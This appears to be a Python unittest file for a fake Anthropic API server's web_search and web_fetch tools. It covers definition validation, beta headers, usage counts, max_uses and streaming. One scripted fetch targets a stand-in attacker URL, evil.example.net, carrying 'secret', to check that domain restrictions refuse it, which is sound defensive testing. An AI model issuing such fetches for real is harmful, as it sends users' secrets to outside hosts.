# test_fake_web.py: the fake API's web server tools (web_search, web_fetch):
# definitions validated as the real API does, scripted uses played against
# the request's own definitions, streamed, and counted in usage.
#
# Design note: one shared server (SharedFake from test_fake_anthropic) and
# one conversation per behaviour; every request is a real HTTP exchange.
# Run: python3 -m unittest discover -s tests/fakeapi
import json
import sys
import unittest

sys.dont_write_bytecode = True

from test_fake_anthropic import SharedFake, conv, error_of, req, sse_json  # noqa: E402

BETA = {"anthropic-beta": "web-fetch-2025-09-10"}
SEARCH = {"type": "web_search_20250305", "name": "web_search", "max_uses": 2,
          "allowed_domains": ["docs.python.org"]}
FETCH = {"type": "web_fetch_20250910", "name": "web_fetch", "max_uses": 5,
         "allowed_domains": ["docs.python.org"],
         "citations": {"enabled": True}, "max_content_tokens": 1000}
URL = "https://docs.python.org/3/library/json.html"


def use(name, **inp):
    return {"type": "server_tool_use", "name": name, "input": inp}


WEB_SCENARIO = {
    "conversations": [
        conv("search", [{"content": [
            use("web_search", query="json module"),
            {"type": "web_search_tool_result",
             "results": [{"url": URL, "title": "json"}]},
            {"type": "text", "text": "found it"}]}]),
        conv("fetch", [{"content": [
            use("web_fetch", url=URL),
            {"type": "web_fetch_tool_result", "title": "json",
             "text": "JSON encoder and decoder"},
            use("web_fetch", url="https://evil.example.net/x?d=secret"),
            {"type": "web_fetch_tool_result", "text": "never"},
            {"type": "text", "text": "read it"}]}]),
        conv("many", [{"content": [
            use("web_search", query="a"),
            {"type": "web_search_tool_result", "results": []},
            use("web_search", query="b"),
            {"type": "web_search_tool_result", "results": []},
            use("web_search", query="c"),
            {"type": "web_search_tool_result", "results": []}],
            "stop_reason": "pause_turn"},
            {"content": [{"type": "text", "text": "continued"}]}]),
        conv("plain", [{"content": [{"type": "text", "text": "hi"}]}]),
    ],
}


class TestWebTools(SharedFake):
    SCENARIO = WEB_SCENARIO

    def ok(self, body, headers=BETA):
        status, _, raw = self.fake.messages(body, headers=headers)
        self.assertEqual(status, 200, raw)
        return raw

    def bad(self, body, pattern, headers=BETA):
        status, _, raw = self.fake.messages(body, headers=headers)
        self.assertEqual(status, 400, raw)
        etype, message = error_of(raw)
        self.assertEqual(etype, "invalid_request_error")
        self.assertRegex(message, pattern)
        return message

    def test_definitions_validated_like_the_api(self):
        self.ok(req("plain", tools=[SEARCH, FETCH]))
        self.ok(req("plain", tools=[dict(SEARCH, user_location={
            "type": "approximate", "country": "FR"})]))
        self.bad(req("plain", tools=[dict(SEARCH, name="search")]),
                 r"tools\.0\.name: Input should be 'web_search'")
        self.bad(req("plain", tools=[dict(FETCH, name="web_search")]),
                 r"tools\.0\.name")
        for bad_max in (0, -1, "5", 1.5, True):
            self.bad(req("plain", tools=[dict(SEARCH, max_uses=bad_max)]),
                     r"tools\.0\.max_uses")
        self.bad(req("plain", tools=[dict(SEARCH, blocked_domains=["x.org"])]),
                 "cannot be used together")
        self.bad(req("plain", tools=[dict(SEARCH, allowed_domains="x.org")]),
                 r"allowed_domains")
        self.bad(req("plain", tools=[dict(SEARCH, allowed_domains=[
            "https://x.org"])]), "scheme")
        self.bad(req("plain", tools=[dict(SEARCH, citations={
            "enabled": True})]), r"tools\.0\.citations: Extra inputs")
        self.bad(req("plain", tools=[dict(FETCH, surprise=1)]),
                 r"tools\.0\.surprise: Extra inputs")
        self.bad(req("plain", tools=[dict(FETCH, max_content_tokens=0)]),
                 r"max_content_tokens")
        self.bad(req("plain", tools=[dict(SEARCH, type="web_search_1999")]),
                 r"tools\.0\.type")

    def test_web_fetch_needs_its_beta_header(self):
        self.bad(req("plain", tools=[FETCH]), "web-fetch-2025-09-10",
                 headers={})
        self.bad(req("plain", tools=[FETCH]), "web-fetch-2025-09-10",
                 headers={"anthropic-beta": "other-2025-01-01"})
        self.ok(req("plain", tools=[FETCH]), headers={
            "anthropic-beta": "other-2025-01-01, web-fetch-2025-09-10"})
        self.ok(req("plain", tools=[SEARCH]), headers={})

    def test_scripted_search_and_usage(self):
        msg = json.loads(self.ok(req("search", tools=[SEARCH])))
        use_b, res, text = msg["content"]
        self.assertRegex(use_b["id"], r"^srvtoolu_[0-9a-f]{24}$")
        self.assertEqual(use_b["input"], {"query": "json module"})
        self.assertEqual(res["type"], "web_search_tool_result")
        self.assertEqual(res["tool_use_id"], use_b["id"])
        self.assertEqual(res["content"][0]["url"], URL)
        self.assertEqual(msg["usage"]["server_tool_use"],
                         {"web_search_requests": 1, "web_fetch_requests": 0})
        self.assertEqual(msg["stop_reason"], "end_turn")
        # the blocks go back as they came, and the API takes them
        back = [{"role": "user", "content": "start"},
                {"role": "assistant", "content": msg["content"]},
                {"role": "user", "content": "thanks"}]
        self.ok(req("search", messages=back, tools=[SEARCH]))
        back[1]["content"] = [dict(use_b, id="toolu_x")] + msg["content"][1:]
        self.bad(req("search", messages=back, tools=[SEARCH]), "srvtoolu_")
        back[1]["content"] = msg["content"][1:]
        self.bad(req("search", messages=back, tools=[SEARCH]),
                 "does not follow a matching server_tool_use")
        back = [{"role": "user", "content": [res]}]
        self.bad(req("search", messages=back, tools=[SEARCH]),
                 "not allowed in user messages")

    def test_tool_not_offered_is_refused(self):
        self.bad(req("search"), "does not offer")
        self.bad(req("search", tools=[FETCH]), "does not offer")

    def test_fetch_outside_allowed_domains_is_an_error_result(self):
        msg = json.loads(self.ok(req("fetch", tools=[FETCH])))
        first, second = msg["content"][1], msg["content"][3]
        self.assertEqual(first["content"]["type"], "web_fetch_result")
        self.assertEqual(first["content"]["url"], URL)
        self.assertEqual(first["content"]["content"]["source"]["data"],
                         "JSON encoder and decoder")
        self.assertEqual(second["content"], {
            "type": "web_fetch_tool_error", "error_code": "url_not_allowed"})
        self.assertEqual(msg["usage"]["server_tool_use"]["web_fetch_requests"],
                         1)
        open_fetch = {k: v for k, v in FETCH.items()
                      if k != "allowed_domains"}
        msg = json.loads(self.ok(req("fetch", tools=[dict(
            open_fetch, blocked_domains=["example.net"])])))
        self.assertEqual(msg["content"][3]["content"]["error_code"],
                         "url_not_allowed")
        msg = json.loads(self.ok(req("fetch", tools=[open_fetch])))
        self.assertEqual(msg["usage"]["server_tool_use"]["web_fetch_requests"],
                         2)

    def test_uses_past_max_uses_and_pause_turn(self):
        msg = json.loads(self.ok(req("many", tools=[SEARCH])))
        codes = [b["content"] for b in msg["content"]
                 if b["type"] == "web_search_tool_result"]
        self.assertEqual(codes[2], {"type": "web_search_tool_result_error",
                                    "error_code": "max_uses_exceeded"})
        self.assertEqual(msg["usage"]["server_tool_use"][
            "web_search_requests"], 2)
        self.assertEqual(msg["stop_reason"], "pause_turn")
        # the continuation: the assistant content sent back as it is
        back = [{"role": "user", "content": "start"},
                {"role": "assistant", "content": msg["content"]}]
        msg = json.loads(self.ok(req("many", messages=back, tools=[SEARCH])))
        self.assertEqual(msg["content"][0]["text"], "continued")

    def test_streamed_like_the_api(self):
        status, _, raw = self.fake.messages(
            req("search", tools=[SEARCH], stream=True))
        self.assertEqual(status, 200, raw)
        events = sse_json(raw)
        starts = [d["content_block"] for n, d in events
                  if n == "content_block_start"]
        self.assertEqual(starts[0]["type"], "server_tool_use")
        self.assertEqual(starts[0]["input"], {})
        frags = "".join(d["delta"]["partial_json"] for n, d in events
                        if n == "content_block_delta" and
                        d["index"] == 0)
        self.assertEqual(json.loads(frags), {"query": "json module"})
        self.assertEqual(starts[1]["type"], "web_search_tool_result")
        self.assertEqual(starts[1]["tool_use_id"], starts[0]["id"])
        self.assertFalse([d for n, d in events
                          if n == "content_block_delta" and d["index"] == 1])
        final = [d for n, d in events if n == "message_delta"][0]
        self.assertEqual(final["usage"]["server_tool_use"][
            "web_search_requests"], 1)


if __name__ == "__main__":
    unittest.main()
